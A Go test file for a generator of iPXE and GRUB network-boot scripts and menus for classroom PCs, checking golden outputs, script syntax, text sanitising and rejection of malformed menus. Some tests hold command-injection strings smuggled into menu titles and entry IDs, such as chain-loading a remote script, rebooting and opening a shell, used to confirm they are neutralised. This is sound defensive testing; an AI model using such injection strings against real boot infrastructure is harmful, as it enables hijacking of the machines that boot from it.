package script

import (
	"flag"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

var update = flag.Bool("update", false, "write the golden files anew")

func TestScripts(t *testing.T) {
	pc := PC{Server: "10.0.0.1", MAC: "52:54:00:12:34:56", CommandLine: "quiet aula.ticket=abc", Overlay: true}
	uefi := pc
	uefi.UEFI = true
	otherPort := PC{Server: "10.0.0.1:8080", MAC: pc.MAC, CommandLine: "quiet", Try: 2}
	waiting := pc
	waiting.Problem = "this aula was built without a client OS"
	otherPortUEFI := otherPort
	otherPortUEFI.UEFI = true
	leaving, leavingUEFI := pc, uefi
	leaving.Exit, leavingUEFI.Exit = true, true
	arm := uefi
	arm.Problem = "there is no client OS for ARM64 PCs yet"

	shown := Menu{
		Title: "PC 7, Aula Ñandú", Timeout: 10 * time.Second, PasswordHash: "grub.pbkdf2.sha512.10000.00FF.AA55",
		Entries: []Entry{{ID: EntryDisk, Label: "Own disk"}, {ID: "system-1-2", Label: "Windows on disk 1"}, {ID: "client", Label: "Client OS", Admin: true}},
	}
	unlocked := shown
	unlocked.PasswordHash, unlocked.Timeout = "", 0

	for name, make := range map[string]func() (string, error){
		"client-bios.ipxe":            func() (string, error) { return ClientOS(IPXE, pc) },
		"client-uefi.ipxe":            func() (string, error) { return ClientOS(IPXE, uefi) },
		"client-third-try-port.ipxe":  func() (string, error) { return ClientOS(IPXE, otherPort) },
		"disk-bios.ipxe":              func() (string, error) { return Disk(IPXE, pc) },
		"disk-uefi.ipxe":              func() (string, error) { return Disk(IPXE, uefi) },
		"wait-bios.ipxe":              func() (string, error) { return Wait(IPXE, waiting) },
		"auto.ipxe":                   func() (string, error) { return Autoexec("10.0.0.1:8080") },
		"disk-bios-exit.ipxe":         func() (string, error) { return Disk(IPXE, leaving) },
		"disk-uefi-exit.grub":         func() (string, error) { return Disk(GRUB, leavingUEFI) },
		"refuse-uefi.ipxe":            func() (string, error) { return Refuse(IPXE, arm) },
		"refuse-uefi.grub":            func() (string, error) { return Refuse(GRUB, arm) },
		"menu-bios.ipxe":              func() (string, error) { return ShowMenu(IPXE, pc, shown) },
		"menu-uefi.ipxe":              func() (string, error) { return ShowMenu(IPXE, uefi, shown) },
		"menu-uefi.grub":              func() (string, error) { return ShowMenu(GRUB, uefi, shown) },
		"menu-unlocked.ipxe":          func() (string, error) { return ShowMenu(IPXE, pc, unlocked) },
		"menu-unlocked.grub":          func() (string, error) { return ShowMenu(GRUB, uefi, unlocked) },
		"start.grub":                  func() (string, error) { return Start("10.0.0.1") },
		"client-uefi.grub":            func() (string, error) { return ClientOS(GRUB, uefi) },
		"client-no-overlay-port.grub": func() (string, error) { return ClientOS(GRUB, otherPortUEFI) },
		"disk-uefi.grub":              func() (string, error) { return Disk(GRUB, uefi) },
		"wait-uefi.grub":              func() (string, error) { return Wait(GRUB, waiting) },
	} {
		t.Run(name, func(t *testing.T) {
			got, err := make()
			if err != nil {
				t.Fatal(err)
			}
			golden := filepath.Join("testdata", name)
			if *update {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if got != string(want) {
				t.Errorf("script is\n%s\nwant\n%s\n(go test -update writes it anew)", got, want)
			}
			checkSyntax(t, name, got)
		})
	}
}

// checkSyntax holds what a golden file, once written wrong, would keep wrong.
func checkSyntax(t *testing.T, name, text string) {
	t.Helper()
	if !strings.HasSuffix(text, "\n") || strings.Contains(text, "{{") || strings.Contains(text, "no value") {
		t.Errorf("template not carried out to its end:\n%s", text)
	}
	lines := strings.Split(text, "\n")
	if strings.HasSuffix(name, ".ipxe") {
		if lines[0] != "#!ipxe" {
			t.Errorf("first line = %q, iPXE wants #!ipxe", lines[0])
		}
		for _, l := range lines {
			if strings.TrimSpace(l) == "exit" || strings.HasPrefix(l, "shell") {
				t.Errorf("line %q: exit without 1 opens the firmware's setup, and nobody may get a shell", l)
			}
		}
		return
	}
	for _, l := range lines {
		if word, rest, _ := strings.Cut(strings.TrimSpace(l), " "); word == "exit" && (rest != "1" || !strings.Contains(name, "exit")) {
			t.Errorf("line %q: exit opens the firmware's setup", l)
		}
	}
	checker, err := exec.LookPath("grub-script-check")
	if err != nil {
		t.Skip("SKIPPED: this machine has no grub-script-check, so GRUB's own opinion is missing")
	}
	cmd := exec.CommandContext(t.Context(), checker)
	cmd.Stdin = strings.NewReader(text)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("GRUB cannot read it: %v\n%s", err, out)
	}
}

func TestPlain(t *testing.T) {
	for text, want := range map[string]bool{
		"":                               true,
		"console=ttyS0,115200 net.x=a/b": true,
		"aula.server=10.0.0.1:443":       true,
		"a'b":                            false,
		"a\nb":                           false,
		"${net0/mac}":                    false,
		"a;b":                            false,
		"a||b":                           false,
		"ñ":                              false,
	} {
		if got := Plain(text); got != want {
			t.Errorf("Plain(%q) = %v, want %v", text, got, want)
		}
		if clean := Sanitize(text); strings.ContainsAny(clean, "$\"\\`|&#{}<>\n") || want && clean != text {
			t.Errorf("Sanitize(%q) = %q", text, clean)
		}
	}
}

// A menu says only what its entries are, whatever they are called.
func TestMenuOfHostileTexts(t *testing.T) {
	hostile := "--x ; chain http://10.0.0.66/a ; x && reboot\nshell $(reboot) `x` \"; reboot; \" ${net0/mac} || shell \\ { }"
	m := Menu{Title: hostile, Entries: []Entry{{ID: "a", Label: hostile}}}
	for _, l := range []Loader{IPXE, GRUB} {
		text, err := ShowMenu(l, PC{Server: "10.0.0.1", MAC: "52:54:00:12:34:56", UEFI: l == GRUB}, m)
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(text) {
			for _, word := range strings.Fields(line) {
				if l == IPXE && (word == ";" || word == "&&") {
					t.Errorf("%q has a word that ends a command of iPXE", line)
				}
			}
			if strings.HasPrefix(line, "shell") || strings.Contains(line, "$(") || strings.Contains(line, "`") || strings.Contains(line, "|| shell") {
				t.Errorf("%s: %q is in the menu", l, line)
			}
		}
		checkSyntax(t, "menu."+string(l), text)
	}
}

func TestMenuThatCannotBe(t *testing.T) {
	good := Entry{ID: "a", Label: "A"}
	for name, m := range map[string]Menu{
		"empty":               {},
		"no id":               {Entries: []Entry{{Label: "A"}}},
		"id with a blank":     {Entries: []Entry{{ID: "a b"}}},
		"id that is a script": {Entries: []Entry{{ID: "a\nshell"}}},
		"id twice":            {Entries: []Entry{good, good}},
		"long id":             {Entries: []Entry{{ID: strings.Repeat("a", 65)}}},
		"hash in clear":       {Entries: []Entry{good}, PasswordHash: "secret"},
		"hash with more":      {Entries: []Entry{good}, PasswordHash: hashPrefix + "1.00.00\nreboot"},
	} {
		if text, err := ShowMenu(GRUB, PC{}, m); err == nil {
			t.Errorf("%s: there is a menu:\n%s", name, text)
		}
	}
}

func TestPeopleReadASCII(t *testing.T) {
	for text, want := range map[string]string{
		"Ñandú, 2º aula": "Nandu, 2o aula", "¿Qué?": " Que ", "ordinador de la col·legi": "ordinador de la col-legi", "日本": "  ", "a\xffb": "a b",
	} {
		if got := Sanitize(text); got != want {
			t.Errorf("Sanitize(%q) = %q, want %q", text, got, want)
		}
	}
	if utf8.RuneCountInString(marked) != len(unmarked) {
		t.Errorf("%d letters with marks, %d without", utf8.RuneCountInString(marked), len(unmarked))
	}
}

func FuzzSanitize(f *testing.F) {
	f.Add("Ñandú $(reboot)")
	f.Fuzz(func(t *testing.T, text string) {
		got := Sanitize(text)
		if strings.ContainsFunc(got, func(r rune) bool { return !plain(r) && !strings.ContainsRune("'();", r) }) || Sanitize(got) != got {
			t.Errorf("Sanitize(%q) = %q", text, got)
		}
	})
}
